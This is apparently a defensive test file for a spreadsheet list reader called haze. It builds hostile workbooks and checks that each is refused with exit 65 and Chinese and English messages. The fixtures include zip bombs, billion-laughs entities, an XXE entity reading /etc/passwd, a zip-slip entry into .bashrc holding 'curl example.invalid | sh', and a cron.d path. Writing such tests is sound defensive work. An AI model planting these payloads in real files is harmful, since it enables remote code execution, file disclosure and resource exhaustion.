/**
 * Hostile and broken "workbooks": each refused with exit 65 and a message saying what it is, before any
 * row is read and without inflating what it claims to hold: zip bombs, entries that climb out of the
 * archive, DOCTYPEs with entities, encrypted workbooks, cut-off files, a legacy .xls under a new name.
 * Through readList (code, exit code, both languages) and through the command line (exit status, stderr).
 */
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { HazeError } from '../../../src/errors.js';
import { readList } from '../../../src/io/read/loadList.js';
import { MAX_SHEET_COLUMNS, MAX_SHEET_ROWS } from '../../../src/io/read/xlsxRows.js';
import { MAX_INFLATED_BYTES, MAX_RATIO, RATIO_FLOOR } from '../../../src/io/read/zipArchive.js';
import { encryptedWorkbook, handWrittenParts, titleRows, zipOf, zipRaw, type RawEntry } from '../../fixtures/workbooks.js';
import { FIXTURES, REPO, haze } from '../../helpers/runHaze.js';

const dir = mkdtempSync(join(tmpdir(), 'haze-hostile-'));
const GROUPS = join(REPO, 'data/xuebu/groups.yaml');
const SHEET = 'xl/worksheets/list.xml';

/** The parts of hand-written.xlsx as raw entries (a sound workbook), with `more` added or put in place of its own. */
function workbookWith(...more: RawEntry[]): Buffer {
  const own = handWrittenParts()
    .filter(([name]) => !more.some((m) => m.name === name))
    .map(([name, xml, deflate]): RawEntry => ({ name, data: Buffer.from(xml), deflate: deflate === true }));
  return zipRaw([...own, ...more]);
}

/** The hand-written workbook with one part's XML changed. */
function withPart(name: string, change: (xml: string) => string): Buffer {
  return zipOf(handWrittenParts().map(([n, xml, deflate]): [string, string, boolean?] => (n === name ? [n, change(xml), deflate] : [n, xml, deflate])));
}

/** 100 MB of zeros, deflated: about 100 KB. */
const zeros = Buffer.alloc(100 * 1024 * 1024);
const bomb = deflateRawSync(zeros);
const ratio = Math.floor(zeros.length / bomb.length).toLocaleString('en-US');

const LAUGHS =
  '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' +
  Array.from({ length: 8 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('') +
  ']>';
const XXE = '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
const DOCTYPE_ZH = '含有 DOCTYPE（文档类型声明）：工作簿的 XML 从不带它，其中的实体可能用来读取本机文件或耗尽内存';
const DOCTYPE_EN = 'has a DOCTYPE (a document type declaration): workbook XML never has one, and its entities can read local files or exhaust memory';

interface Case {
  name: string;
  file: string;
  bytes: () => Promise<Buffer> | Buffer;
  code: string;
  zh: string;
  en: string;
}

/**
 * The sheet with `extra` XML after its last row, inside <sheetData>, stored rather than deflated: what is
 * refused is the sheet's shape, not its ratio (which would stop these first).
 */
const afterLastRow = (extra: string) =>
  zipOf(
    handWrittenParts().map(([n, xml, deflate]): [string, string, boolean?] =>
      n === SHEET ? [n, xml.replace('</x:sheetData>', `${extra}</x:sheetData>`), false] : [n, xml, deflate],
    ),
  );
const ROWS_ZH = '拒绝读取工作簿：工作表超过 1,048,576 行（Excel 的上限），不是电子表格软件写出的';
const ROWS_EN = "the workbook is refused: the sheet goes past 1,048,576 rows (Excel's limit): no spreadsheet program wrote it";
const columnsZh = (row: number) => `拒绝读取工作簿：工作表第 ${row} 行超过 16,384 列（XFD，Excel 的上限），不是电子表格软件写出的`;
const columnsEn = (row: number) =>
  `the workbook is refused: row ${row} of the sheet goes past 16,384 columns (XFD, Excel's limit): no spreadsheet program wrote it`;

const cases: Case[] = [
  {
    name: 'a zip bomb: 100 MB of zeros in 100 KB, refused from its directory, never inflated',
    file: 'bomb.xlsx',
    bytes: () => workbookWith({ name: SHEET, data: zeros.subarray(0, 0), stored: bomb, deflate: true, size: zeros.length, crc: 0 }),
    code: 'HAZE_XLSX_UNSAFE',
    zh: `拒绝读取工作簿：${SHEET} 解压后 100 MB，是压缩数据的 ${ratio} 倍（上限 ${MAX_RATIO} 倍），疑似 zip 炸弹`,
    en: `the workbook is refused: ${SHEET} inflates to 100 MB, ${ratio} times its compressed size (the bound is ${MAX_RATIO}): a zip bomb?`,
  },
  {
    name: 'a zip bomb in many parts, each under the ratio, past the bound in all',
    file: 'bomb-parts.xlsx',
    bytes: () => {
      // Each part claims 400 MB from 2.1 MB (190 times): the three of them 1.2 GB. Nothing of it is inflated.
      const stored = Buffer.alloc(Math.ceil((400 * 1024 * 1024) / 190), 0x5a);
      return workbookWith(...[1, 2, 3].map((i) => ({ name: `xl/media/image${i}.bin`, data: Buffer.alloc(0), stored, deflate: true, size: 400 * 1024 * 1024 })));
    },
    code: 'HAZE_XLSX_UNSAFE',
    zh: '拒绝读取工作簿：解压后超过 1,024 MB（清单不会这么大），疑似 zip 炸弹',
    en: 'the workbook is refused: it inflates to more than 1,024 MB (no list is that large): a zip bomb?',
  },
  {
    name: 'a zip bomb that lies about its size: stopped at the size it gives, a chunk in',
    file: 'bomb-lying.xlsx',
    bytes: () => workbookWith({ name: SHEET, data: Buffer.alloc(0), stored: bomb, deflate: true, size: 1000, crc: 0 }),
    code: 'HAZE_XLSX_UNREADABLE',
    zh: `无法读取工作簿：文件已损坏（${SHEET}：条目大小不符）`,
    en: `cannot read the workbook: the file is damaged (${SHEET}: entry sizes mismatch)`,
  },
  {
    name: "a million empty rows and one more: stopped at Excel's 1,048,576, not read on",
    file: 'empty-rows.xlsx',
    bytes: () => afterLastRow('<x:row/>'.repeat(MAX_SHEET_ROWS)),
    code: 'HAZE_XLSX_UNSAFE',
    zh: ROWS_ZH,
    en: ROWS_EN,
  },
  {
    name: 'one row numbered past 1,048,576',
    file: 'row-number.xlsx',
    bytes: () => afterLastRow(`<x:row r="${MAX_SHEET_ROWS + 1}"><x:c r="A${MAX_SHEET_ROWS + 1}"><x:v>1</x:v></x:c></x:row>`),
    code: 'HAZE_XLSX_UNSAFE',
    zh: ROWS_ZH,
    en: ROWS_EN,
  },
  {
    name: 'one row repeated under one number past the limit (the count is held, not only the numbers)',
    file: 'same-row.xlsx',
    bytes: () => afterLastRow('<x:row r="7"/>'.repeat(MAX_SHEET_ROWS)),
    code: 'HAZE_XLSX_UNSAFE',
    zh: ROWS_ZH,
    en: ROWS_EN,
  },
  {
    name: 'a cell past column XFD',
    file: 'column-ref.xlsx',
    bytes: () => afterLastRow('<x:row r="7"><x:c r="XFE7"><x:v>1</x:v></x:c></x:row>'),
    code: 'HAZE_XLSX_UNSAFE',
    zh: columnsZh(7),
    en: columnsEn(7),
  },
  {
    name: 'a row of 16,385 empty cells without references',
    file: 'empty-cells.xlsx',
    bytes: () => afterLastRow(`<x:row r="7">${'<x:c/>'.repeat(MAX_SHEET_COLUMNS + 1)}</x:row>`),
    code: 'HAZE_XLSX_UNSAFE',
    zh: columnsZh(7),
    en: columnsEn(7),
  },
  {
    name: 'an entry whose path climbs out of the archive (../)',
    file: 'zip-slip.xlsx',
    bytes: () => workbookWith({ name: '../../.bashrc', data: Buffer.from('curl example.invalid | sh\n') }),
    code: 'HAZE_XLSX_UNSAFE',
    zh: '拒绝读取工作簿：条目"../../.bashrc"的路径指向压缩包之外',
    en: 'the workbook is refused: the entry "../../.bashrc" has a path that leads out of the archive',
  },
  {
    name: 'the same with Windows backslashes',
    file: 'zip-slip-windows.xlsx',
    bytes: () => workbookWith({ name: 'xl\\..\\..\\evil.xml', data: Buffer.from('<x/>') }),
    code: 'HAZE_XLSX_UNSAFE',
    zh: '拒绝读取工作簿：条目"xl/../../evil.xml"的路径指向压缩包之外',
    en: 'the workbook is refused: the entry "xl/../../evil.xml" has a path that leads out of the archive',
  },
  {
    name: 'an entry with an absolute path',
    file: 'absolute.xlsx',
    bytes: () => workbookWith({ name: '/etc/cron.d/haze', data: Buffer.from('* * * * * root true\n') }),
    code: 'HAZE_XLSX_UNSAFE',
    zh: '拒绝读取工作簿：条目"/etc/cron.d/haze"是绝对路径',
    en: 'the workbook is refused: the entry "/etc/cron.d/haze" has an absolute path',
  },
  {
    name: 'two entries of one name (a reader could take either)',
    file: 'twice.xlsx',
    bytes: () => zipRaw([...handWrittenParts().map(([name, xml]) => ({ name, data: Buffer.from(xml) })), { name: SHEET, data: Buffer.from('<x:worksheet/>') }]),
    code: 'HAZE_XLSX_UNSAFE',
    zh: `拒绝读取工作簿：压缩包中有两个名为"${SHEET}"的条目`,
    en: `the workbook is refused: the archive has two entries named "${SHEET}"`,
  },
  {
    name: 'a DOCTYPE with entities that expand ten to the eighth times (billion laughs), in the sheet',
    file: 'laughs.xlsx',
    bytes: () => withPart(SHEET, (xml) => LAUGHS + xml.replace('名单（2026年）', '&lol8;')),
    code: 'HAZE_XLSX_UNSAFE',
    zh: `拒绝读取工作簿：${SHEET} ${DOCTYPE_ZH}`,
    en: `the workbook is refused: ${SHEET} ${DOCTYPE_EN}`,
  },
  {
    name: 'a DOCTYPE with an external entity (a file of this machine), in the shared strings',
    file: 'xxe.xlsx',
    bytes: () => withPart('xl/sharedStrings.xml', (xml) => XXE + xml.replace('常州方麓茶业有限公司', '&xxe;')),
    code: 'HAZE_XLSX_UNSAFE',
    zh: `拒绝读取工作簿：xl/sharedStrings.xml ${DOCTYPE_ZH}`,
    en: `the workbook is refused: xl/sharedStrings.xml ${DOCTYPE_EN}`,
  },
  {
    name: 'a DOCTYPE in the workbook part, before any sheet is chosen',
    file: 'doctype-workbook.xlsx',
    bytes: () => withPart('xl/workbook.xml', (xml) => `<!DOCTYPE x:workbook SYSTEM "http://example.invalid/workbook.dtd">${xml}`),
    code: 'HAZE_XLSX_UNSAFE',
    zh: `拒绝读取工作簿：xl/workbook.xml ${DOCTYPE_ZH}`,
    en: `the workbook is refused: xl/workbook.xml ${DOCTYPE_EN}`,
  },
  {
    name: 'an encrypted workbook (Excel\'s "Encrypt with Password": an OLE2 file, named .xlsx)',
    file: '加密清单.xlsx',
    bytes: () => encryptedWorkbook(),
    code: 'HAZE_XLSX_ENCRYPTED',
    zh: '工作簿设有打开密码（已加密），无法读取',
    en: 'the workbook is encrypted (it has a password to open) and cannot be read',
  },
  {
    name: 'a zip whose sheet has a password (encrypted entry)',
    file: 'zip-password.xlsx',
    // ZipCrypto as zip tools write it: 12 bytes of header before the deflated, encrypted data.
    bytes: () => workbookWith({ name: SHEET, data: Buffer.alloc(0), stored: Buffer.alloc(12 + 64, 0x33), deflate: true, size: 200, crc: 0x1234, flags: 1 }),
    code: 'HAZE_XLSX_ENCRYPTED',
    zh: `工作簿设有密码（压缩包中的 ${SHEET} 已加密），无法读取`,
    en: `the workbook is encrypted (${SHEET} in its zip has a password) and cannot be read`,
  },
  {
    name: 'a workbook cut off while copying',
    file: 'truncated.xlsx',
    bytes: async () => {
      const whole = readFileSync(await titleRows(dir));
      return whole.subarray(0, whole.length - 10);
    },
    code: 'HAZE_XLSX_UNREADABLE',
    zh: '无法读取工作簿：文件不完整（找不到 zip 目录，可能下载或复制时被截断）',
    en: 'cannot read the workbook: the file is incomplete (no zip directory: cut off while copying?)',
  },
  {
    name: 'a legacy .xls renamed .xlsx',
    file: '旧清单.xlsx',
    bytes: () => readFileSync(join(FIXTURES, 'legacy.xls')),
    code: 'HAZE_LIST_XLS',
    zh: '不支持旧版 Excel 97-2003 (.xls) 文件',
    en: 'legacy Excel 97-2003 (.xls) files are not read',
  },
];

const paths = new Map<string, string>();
beforeAll(async () => {
  for (const c of cases) {
    const file = join(dir, c.file);
    writeFileSync(file, await c.bytes());
    paths.set(c.name, file);
  }
});

test.each(cases.map((c) => [c.name, c] as const))('%s: exit 65', async (_name, c) => {
  const file = paths.get(c.name)!;
  let err: unknown;
  try {
    await readList(file);
  } catch (e) {
    err = e;
  }
  expect(err).toBeInstanceOf(HazeError);
  const h = err as HazeError;
  expect({ code: h.code, exitCode: h.exitCode, zh: h.text.zh, en: h.text.en, where: h.where }).toEqual({
    code: c.code,
    exitCode: 65,
    zh: c.zh,
    en: c.en,
    where: { file },
  });
  // How fast a bomb is refused (from what the archive says of itself, none inflated) is measured by
  // `npm run bench:hostile`, not here: a timed test fails on a busy machine.
});

test.each(cases.map((c) => [c.name, c] as const))('%s: haze validate exits 65 and says so', (_name, c) => {
  const file = paths.get(c.name)!;
  const r = haze(['validate', '--groups', GROUPS, '--list', file]);
  expect(r.status).toBe(65);
  expect(r.stdout).toBe('');
  // validate reports the list it cannot read as one problem among the workspace's, with the refusal's words.
  const zh = `${file}: 错误 HAZE_LIST_UNREADABLE: ${c.zh}；提示：`;
  expect(r.stderr.split('\n')[0]!.slice(0, zh.length)).toBe(zh);
  const en = haze(['validate', '--lang', 'en', '--groups', GROUPS, '--list', file]);
  const enLine = `${file}: error HAZE_LIST_UNREADABLE: ${c.en}; hint: `;
  expect([en.status, en.stderr.split('\n')[0]!.slice(0, enLine.length)]).toEqual([65, enLine]);
});

test('the bounds: what a 100,000-row list inflates to is far inside them', () => {
  expect(MAX_INFLATED_BYTES).toBe(1024 * 1024 * 1024);
  expect([MAX_RATIO, RATIO_FLOOR]).toEqual([200, 8 * 1024 * 1024]);
});

test('an entity used without a DOCTYPE is damaged XML; a sound copy of the same workbook reads', async () => {
  const file = join(dir, 'undefined-entity.xlsx');
  writeFileSync(
    file,
    withPart(SHEET, (xml) => xml.replace('名单（2026年）', '&xxe;')),
  );
  const err = await readList(file).catch((e: unknown) => e);
  expect(err).toBeInstanceOf(HazeError);
  expect([(err as HazeError).code, (err as HazeError).exitCode]).toEqual(['HAZE_XLSX_UNREADABLE', 65]);
  expect((err as HazeError).text.zh).toMatch(new RegExp(`^无法读取工作簿：XML 损坏（${SHEET}，第 [\\d,]+ 个字符附近）$`));
  expect((err as HazeError).text.en).toMatch(/undefined entity/);
  const sound = join(dir, 'sound.xlsx');
  writeFileSync(
    sound,
    withPart(SHEET, (xml) => xml),
  );
  expect((await readList(sound)).enterprises).toHaveLength(2);
});

test('the zip and the XML are read by libraries: no zip structure or XML tokenising of haze its own in src', () => {
  const files = (d: string): string[] =>
    readdirSync(d, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? files(join(d, e.name)) : e.name.endsWith('.ts') ? [join(d, e.name)] : []));
  const found: string[] = [];
  for (const file of files(join(REPO, 'src'))) {
    const text = readFileSync(file, 'utf8');
    const at = file.slice(REPO.length + 1);
    // Zip records by their signatures, or zlib's inflate outside the one module that hands yauzl's data to it.
    if (/0x0[1-8]0[1-8]4b50|readUInt(16|32)LE/.test(text)) found.push(`${at}: zip records`);
    if (/inflateRaw|createInflate/.test(text) && !at.endsWith('zipArchive.ts')) found.push(`${at}: inflate`);
    // Patterns over markup: a regular expression that starts at a tag — in the code, not in what its comments and
    // strings say (a link written /g/<token> in a comment is prose, not a pattern).
    const code = text
      .split('\n')
      .filter((line) => !/^\s*(\*|\/\/|\/\*)/.test(line))
      .join('\n')
      .replace(/'(?:[^'\\\n]|\\.)*'|"(?:[^"\\\n]|\\.)*"|`(?:[^`\\]|\\.)*`/g, "''");
    if (/\/<(\(|\[|\\|[a-z])/.test(code) || /RegExp\(`<|RegExp\('</.test(text)) found.push(`${at}: XML by pattern`);
  }
  expect(found).toEqual([]);
});

test('a cell that points past the shared strings is 65 with its row and column, not an empty cell', async () => {
  const file = join(dir, 'shared-string-out-of-range.xlsx');
  writeFileSync(
    file,
    withPart(SHEET, (xml) => xml.replace(/(t="s"[^>]*><x:v>)\d+(<\/x:v>)/, '$1999$2')),
  );
  const err = await readList(file).catch((e: unknown) => e);
  expect(err).toBeInstanceOf(HazeError);
  expect([(err as HazeError).code, (err as HazeError).exitCode]).toEqual(['HAZE_XLSX_UNREADABLE', 65]);
  expect((err as HazeError).text.zh).toMatch(/^无法读取工作簿：第 \d+ 行第 \d+ 列的单元格指向不存在的共享字符串（第 999 个，工作簿共 \d+ 个）$/);
});
